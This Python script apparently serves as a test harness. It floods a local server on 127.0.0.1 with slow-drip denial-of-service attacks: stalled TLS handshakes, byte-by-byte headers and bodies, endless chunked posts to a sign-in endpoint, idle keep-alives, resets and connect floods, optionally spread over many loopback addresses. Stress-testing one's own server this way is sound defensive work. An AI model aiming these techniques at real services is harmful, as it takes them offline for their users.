"""One attack, for some seconds: attacker.py KIND[,KIND...] PORT COUNT SECONDS SPREAD. It prints how many connections it opened.

Each of COUNT connections is opened anew when the server ends it, and is of one of the kinds. SPREAD 1: from as many addresses of
127.0.0.0/8.
"""
import asyncio
import json
import os
import socket
import ssl
import struct
import sys

CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
opened = 0


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        CONTEXT.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def drip(writer, data):
    for byte in data:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def mute(reader, writer):
    await reader.read()


async def hello_drip(reader, writer):
    """A handshake that never gets on."""
    await drip(writer, client_hello())


async def hello_only(reader, writer):
    """The server has done its costly part; then nothing comes."""
    writer.write(client_hello())
    while await reader.read(65536):
        pass


async def head_drip(reader, writer):
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: h\r\n")
    await drip(writer, b"X-Slow: " + b"a" * 1000)


async def body_drip(reader, writer):
    writer.write(b"POST /v1/auth/sign_in HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n")
    await drip(writer, b'{"uid":"' + b"a" * 900)


async def chunk_drip(reader, writer):
    """Chunks without an end, of one byte each."""
    writer.write(b"POST /v1/auth/sign_in HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    await drip(writer, b"1\r\n \r\n" * 1000)


async def idle(reader, writer):
    """Keep-alive, and nothing more after one answer."""
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: h\r\n\r\n")
    while await reader.read(65536):
        pass


async def reset(reader, writer):
    """Gone by RST in the middle of the handshake."""
    writer.write(client_hello())
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    await asyncio.sleep(0.05)


async def flood(reader, writer):
    """Opened and closed at once."""


KINDS = {f.__name__: (f, f in (head_drip, body_drip, chunk_drip, idle))
         for f in (mute, hello_drip, hello_only, head_drip, body_drip, chunk_drip, idle, reset, flood)}


async def attack(kind, port, source):
    global opened
    run, tls = KINDS[kind]
    while True:
        writer = None
        plain = socket.socket()
        try:
            plain.setblocking(False)
            plain.bind((source, 0))
            await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
            opened += 1
            reader, writer = await asyncio.open_connection(sock=plain)
            if tls:
                transport = await asyncio.get_running_loop().start_tls(
                    writer.transport, reader._transport.get_protocol(), CONTEXT, ssl_handshake_timeout=60)
                reader._transport = transport
                writer = asyncio.StreamWriter(transport, transport.get_protocol(), reader, asyncio.get_running_loop())
            await run(reader, writer)
        except (OSError, ssl.SSLError, ConnectionError, EOFError):
            await asyncio.sleep(0.2)
        finally:
            if writer is None:
                plain.close()
            elif kind in ("reset", "flood"):
                writer.transport.abort()
            else:
                writer.close()


async def main(kinds, port, count, seconds, spread):
    tasks = [asyncio.ensure_future(attack(kinds[i % len(kinds)], port, f"127.1.{i // 250}.{1 + i % 250}" if spread else "127.0.0.1"))
             for i in range(count)]
    await asyncio.sleep(seconds)
    print(json.dumps({"opened": opened}), flush=True)
    for task in tasks:
        task.cancel()


loop = asyncio.new_event_loop()
loop.set_exception_handler(lambda *_: None)  # connections break: that is the point
loop.run_until_complete(main(sys.argv[1].split(","), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5] == "1"))
os._exit(0)  # thousands of broken connections need no farewell
